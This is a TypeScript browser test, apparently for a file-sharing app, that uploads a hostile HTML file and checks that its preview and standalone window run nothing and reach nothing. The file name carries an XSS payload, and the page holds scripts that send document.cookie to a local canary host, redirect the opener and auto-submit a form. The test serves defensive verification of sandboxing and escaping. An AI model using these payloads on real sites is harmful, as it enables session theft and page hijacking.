import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { NEWS_MS, fetchFile, gather, goTo, share } from './gathering.ts';
import type { Person } from './person.ts';
import { chromiumPath } from '../../scripts/chromium.mjs';
import { BrowserStage } from './stage.ts';

const GROUP = 'strangers';
const NAME = '<img src=x onerror=document.title=1> & <b>bold.html';

/** A page that tries what it can: to run, to be seen, to call, to lead away, to send a form. */
function attack(canary: string): string {
  const shout = `fetch('${canary}/fetched'); fetch('/v1/account'); new Image().src = '${canary}/cookie?' + document.cookie; document.title = 'taken'; opener && (opener.location = '${canary}/opener');`;
  return `<!doctype html><title>harmless</title>
    <meta http-equiv="refresh" content="0;url=${canary}/refreshed">
    <link rel="stylesheet" href="${canary}/style"><link rel="prefetch" href="${canary}/prefetch">
    <link rel="preconnect" href="${canary}"><link rel="dns-prefetch" href="${canary}">
    <script>${shout}</script><script src="${canary}/script"></script>
    <body onload="${shout.replaceAll('"', '&quot;')}">
    <img src="${canary}/image" onerror="${shout}"><iframe src="${canary}/frame"></iframe>
    <iframe srcdoc="<script>parent.document.title='taken'</script>"></iframe>
    <object data="${canary}/object"></object><video src="${canary}/video" autoplay></video>
    <form id="f" action="${canary}/form"><button>Press</button></form><script>f.submit()</script>
    <a href="javascript:${shout}">click</a><p id="words">Shared words</p>`;
}

describe.skipIf(chromiumPath === undefined)('a shared HTML file', () => {
  let stage: BrowserStage;
  let ada: Person;
  let bob: Person;
  let page: Page;
  let canary: Server;
  const heard: string[] = [];

  beforeAll(async () => {
    canary = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.end();
    });
    canary.on('connection', () => heard.push('a connection'));
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    stage = await BrowserStage.open();
    [ada, bob] = (await gather(stage, GROUP, ['ada', 'bob'])) as [Person, Person];
    const { port } = canary.address() as AddressInfo;
    await share(ada, GROUP, NAME, Buffer.from(attack(`http://127.0.0.1:${port}`)));
    await fetchFile(bob, GROUP, NAME);
    page = await bob.openPage();
  });

  afterAll(async () => {
    expect(await stage.close()).toEqual([]);
    await new Promise((resolve) => canary.close(resolve));
  });

  test('its name is text wherever it stands', async () => {
    for (const place of [
      ['groups', GROUP],
      ['downloads'],
      ['transfer', GROUP, NAME],
      ['preview', GROUP, NAME],
    ]) {
      await goTo(page, ...place);
      await page.getByText(NAME, { exact: true }).first().waitFor({ timeout: NEWS_MS });
      expect(await page.locator('main img[src="x"], main b').count()).toBe(0);
    }
    expect(await page.title()).not.toBe('1');
  });

  test('the page shows its source, and nothing of it happens', async () => {
    await goTo(page, 'preview', GROUP, NAME);
    const text = page.getByRole('region', { name: /^Beginning of/ });
    await expect.poll(() => text.textContent(), { timeout: NEWS_MS }).toContain('<script>fetch(');
    expect(await text.locator('script, iframe, form').count()).toBe(0);
  });

  test('opened in a window of its own it runs nothing, asks for nothing, and has no cookie', async () => {
    const opening = page.context().waitForEvent('page');
    await page.getByRole('link', { name: 'Open in a window of its own' }).click();
    const window = await opening;
    const asked: string[] = [];
    window.on('request', (request) => asked.push(request.url()));
    await window.getByText('Shared words').waitFor();
    const answer = await window.reload();
    expect(answer?.headers()['content-security-policy']).toContain('sandbox');
    // Long enough for what loads late, and for the refresh after no seconds.
    await window.waitForTimeout(1500);
    expect(await window.title()).not.toBe('taken');
    expect(await window.evaluate('self.origin')).toBe('null');
    expect(
      await window.evaluate('document.querySelectorAll("script, iframe, form, object, video").length'),
    ).toBe(0);
    expect(await window.evaluate('(() => { try { return document.cookie; } catch { return ""; } })()')).toBe(
      '',
    );
    expect(heard).toEqual([]);
    expect(asked.filter((url) => url.includes('/v1/'))).toEqual([]);
    expect(new URL(window.url()).pathname).toMatch(/^\/files\//);
    expect(page.url()).toContain('#/preview/');
  });
});
